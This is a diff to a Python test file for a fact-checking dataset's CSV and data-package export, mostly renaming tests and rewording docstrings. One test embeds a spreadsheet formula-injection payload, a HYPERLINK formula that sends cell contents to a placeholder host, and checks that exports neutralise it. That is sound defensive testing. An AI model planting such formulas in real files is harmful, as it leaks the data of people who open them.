@@ -10,7 +10,7 @@ import pandas as pd
 import pytest
 from hypothesis import HealthCheck, given, settings
 
-from factcheck.dataset.columns import COLUMNS, row
+from factcheck.dataset.columns import COLUMNS, to_row
 from factcheck.dataset.export import About
 from factcheck.dataset.export.frictionless import read_rows
 from factcheck.dataset.reading import open_dataset
@@ -23,30 +23,30 @@ PLAIN = settings(suppress_health_check=[HealthCheck.function_scoped_fixture], de
 
 
 def report_of(package: Path) -> Any:  # noqa: ANN401 - untyped
-    """Return what the validator of Frictionless finds."""
+    """Return the report of Frictionless' validator."""
     return frictionless.validate(str(package))
 
 
 def hostile(note: str) -> Dataset:
-    """Return the sample with a note of an annotator's."""
+    """Return the sample with a note of an annotator."""
     claims = (replace(DATASET.claims[0], evidence=Evidence(note=note)), *DATASET.claims[1:])
     return replace(DATASET, claims=claims)
 
 
-@PLAIN
+@settings(PLAIN, max_examples=50)
 @given(dataset=datasets())
-def test_rows_come_back_as_they_were(dataset: Dataset, tmp_path: Path) -> None:
-    """Formulas, quotes, line breaks of all kinds, NUL."""
+def test_read_rows_gives_back_every_row(dataset: Dataset, tmp_path: Path) -> None:
+    """With formulas, quotes and all kinds of line breaks."""
     table, _ = exported(tmp_path, dataset, "csv")
 
     with open_dataset(tmp_path / "claims.json") as opened:
-        assert list(read_rows(table)) == [row(each) for each in opened.claims()]
+        assert list(read_rows(table)) == [to_row(each) for each in opened.claims()]
 
 
 @settings(PLAIN, max_examples=25)
 @given(dataset=datasets())
 def test_any_export_is_a_valid_data_package(dataset: Dataset, tmp_path: Path) -> None:
-    """Types, choices, keys and hash, as the package tells them."""
+    """Types, allowed values, keys and hash."""
     _, package = exported(tmp_path, dataset, "csv")
 
     report = report_of(package)
@@ -55,15 +55,15 @@ def test_any_export_is_a_valid_data_package(dataset: Dataset, tmp_path: Path) ->
 
 
 def test_an_empty_dataset_is_a_valid_data_package(tmp_path: Path) -> None:
-    """A table of headings alone."""
+    """The table has only its headings."""
     table, package = exported(tmp_path, EMPTY, "csv")
 
     assert report_of(package).valid
     assert table.read_text("utf-8").splitlines() == [",".join(each.name for each in COLUMNS)]
 
 
-def test_a_wrong_table_is_found_by_its_package(tmp_path: Path) -> None:
-    """The package says enough to see a verdict that is none, and a score of 2."""
+def test_the_package_detects_a_wrong_table(tmp_path: Path) -> None:
+    """An unknown verdict, and a score of 2."""
     table, package = exported(tmp_path, DATASET, "csv")
     text = table.read_text("utf-8").replace("Supported", "Maybe").replace("0.75", "2")
     table.write_text(text, encoding="utf-8", newline="")
@@ -73,8 +73,8 @@ def test_a_wrong_table_is_found_by_its_package(tmp_path: Path) -> None:
     assert {("verdict", "constraint-error"), ("score", "constraint-error")} <= found
 
 
-def test_rows_are_typed_for_whoever_reads_the_package(tmp_path: Path) -> None:
-    """Lists are lists, moments moments, numbers numbers, nothing is None."""
+def test_the_package_gives_rows_their_types(tmp_path: Path) -> None:
+    """Lists, date-times, numbers, and None for an empty cell."""
     _, package = exported(tmp_path, DATASET, "csv")
 
     first, second = frictionless.Package(str(package)).get_resource("claims").read_rows()
@@ -90,7 +90,7 @@ def test_rows_are_typed_for_whoever_reads_the_package(tmp_path: Path) -> None:
 
 
 def test_no_cell_runs_in_a_spreadsheet(tmp_path: Path) -> None:
-    """What was written is text to it; our reader gives the note back."""
+    """The cell is text; `read_rows` gives the note back."""
     note = '=HYPERLINK("https://example.org/?leak="&A1)'
     table, _ = exported(tmp_path, hostile(note), "csv")
 
@@ -101,8 +101,8 @@ def test_no_cell_runs_in_a_spreadsheet(tmp_path: Path) -> None:
     assert next(read_rows(table))["evidence_note"] == note
 
 
-def test_pandas_reads_the_table_as_it_is(tmp_path: Path) -> None:
-    """With a comma, quotes and line breaks in a cell."""
+def test_pandas_reads_the_table(tmp_path: Path) -> None:
+    """A cell with a comma, quotes and line breaks."""
     note = 'One, "two",\r\nthree'
     table, _ = exported(tmp_path, hostile(note), "csv")
 
@@ -113,22 +113,22 @@ def test_pandas_reads_the_table_as_it_is(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    ("licence", "told"),
+    ("licence", "expected"),
     [
         ("", None),
         ("CC-BY-4.0", [{"name": "CC-BY-4.0"}]),
         ("https://example.org/terms", [{"path": "https://example.org/terms"}]),
     ],
 )
-def test_the_licence_is_what_was_given(licence: str, told: object, tmp_path: Path) -> None:
+def test_the_licence_is_what_was_given(licence: str, expected: object, tmp_path: Path) -> None:
     """An id, an address, or nothing."""
     _, package = exported(tmp_path, DATASET, "csv", About(licence))
 
-    assert frictionless.Package(str(package)).to_descriptor().get("licenses") == told
+    assert frictionless.Package(str(package)).to_descriptor().get("licenses") == expected
 
 
 def test_a_cell_may_be_of_any_length(tmp_path: Path) -> None:
-    """Longer than the 128 KiB that Python's reader takes by itself; pandas and ours read it."""
+    """Also longer than the 128 KiB that Python's reader accepts by default."""
     table, _ = exported(tmp_path, hostile("long " * 40_000), "csv")
 
     assert next(read_rows(table))["evidence_note"] == "long " * 40_000
@@ -137,9 +137,9 @@ def test_a_cell_may_be_of_any_length(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("text", ["a,b\r\n1,2\r\n", 'id\r\n"x\r\n'])
 def test_another_table_is_refused(text: str, tmp_path: Path) -> None:
-    """Without our columns, or cut off."""
+    """Other columns, or a cell without its end."""
     path = tmp_path / "other.csv"
     path.write_text(text, encoding="utf-8", newline="")
 
-    with pytest.raises(ValueError, match="is no table of claims"):
+    with pytest.raises(ValueError, match="is not a table of claims"):
         list(read_rows(path))
